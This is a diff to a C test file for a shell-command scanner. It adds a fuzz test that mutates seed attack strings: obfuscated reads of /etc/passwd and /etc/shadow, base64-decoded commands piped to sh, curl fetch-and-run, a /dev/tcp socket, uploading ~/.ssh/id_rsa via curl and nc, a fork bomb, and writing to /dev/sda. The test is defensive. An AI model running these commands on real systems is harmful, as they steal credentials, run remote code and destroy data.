@@ -1,5 +1,6 @@
 /* Shell scanner: built-in rules on resolved commands, argument discovery, benign look-alikes. */
 #include <cjson/cJSON.h>
+#include <stdint.h>
 #include <stdlib.h>
 
 #include "shell.h"
@@ -535,4 +536,65 @@ TEST(shell_not_initialised_is_silent_not_crashing)
 	shell_free();
 	shell_scan_command("rm -rf /", 8, "w", 1, &f);
 	ASSERT_EQ(f.n, 0);
+}
+
+/* Spliced and mutated attack strings never crash the scanner (ASan/UBSan in unit-san). */
+TEST(shell_mutated_input_robustness)
+{
+	static const char *const seeds[] = {
+	    "echo Y2F0IC9ldGMvc2hhZG93 | base64 -d | sh",
+	    "c''at ${PATH:0:1}etc",
+	    "{cat,/etc/passwd}",
+	    "IFS=,;cmd=cat,/etc/passwd;$cmd",
+	    "sh -c '$0 $1' cat /etc/passwd",
+	    "bash <<< \"$(echo x|base64 -d)\"",
+	    "cat <<EOF | sh\ncat /etc/shadow\nEOF\n",
+	    ":(){ :|:& };:",
+	    "x=$(printf '\\x63'); ${x//c/d} ${#x} ${!x} ${x^^}",
+	    "case x in a) b;; esac; for c in a; do $c; done",
+	    "eval \"$(echo cm0= | base64 -d)\"; printf -v c '\\x63at'; $c",
+	    "bash <(curl x) && exec 3<>/dev/tcp/x/80; cat <&3",
+	    "echo {1..5}{a,b} $((1+2*3)) ${PATH:$((1-1)):1}",
+	    "x='eval $x'; eval $x; `echo \\`echo cat\\``",
+	    "curl -F f=@~/.ssh/id_rsa x | nc h 1 > /dev/sda",
+	};
+	static const char mc[] = "$'\"`\\(){}|;&<>*?[]#=\n ,.-:/%^@!~";
+	uint64_t x = 88172645463325252ull;
+	size_t ns = sizeof(seeds) / sizeof(seeds[0]);
+
+	ASSERT_EQ(init(), 0);
+	for (int it = 0; it < 2000; it++) {
+		char buf[512];
+		size_t n = 0;
+		struct findings f = {0};
+
+		for (int part = 0; part < 3; part++) {
+			const char *s;
+			size_t l, a, b;
+
+			x ^= x << 13;
+			x ^= x >> 7;
+			x ^= x << 17;
+			s = seeds[x % ns];
+			l = strlen(s);
+			a = (x >> 8) % (l + 1);
+			b = a + (x >> 20) % (l - a + 1);
+			if (n + (b - a) < sizeof(buf)) {
+				memcpy(buf + n, s + a, b - a);
+				n += b - a;
+			}
+		}
+		for (int m = 0; m < 4 && n; m++) {
+			x ^= x << 13;
+			x ^= x >> 7;
+			x ^= x << 17;
+			buf[x % n] =
+			    (x >> 40) & 1 ? mc[(x >> 44) % (sizeof(mc) - 1)] : (char)(x >> 50);
+		}
+		shell_scan_command(buf, n, "w", 1, &f);
+		ASSERT_TRUE(f.n <= MG_MAX_FINDINGS);
+		for (size_t i = 0; i < f.n; i++)
+			ASSERT_TRUE(strlen(f.v[i].detail) < sizeof(f.v[i].detail));
+	}
+	shell_free();
 }
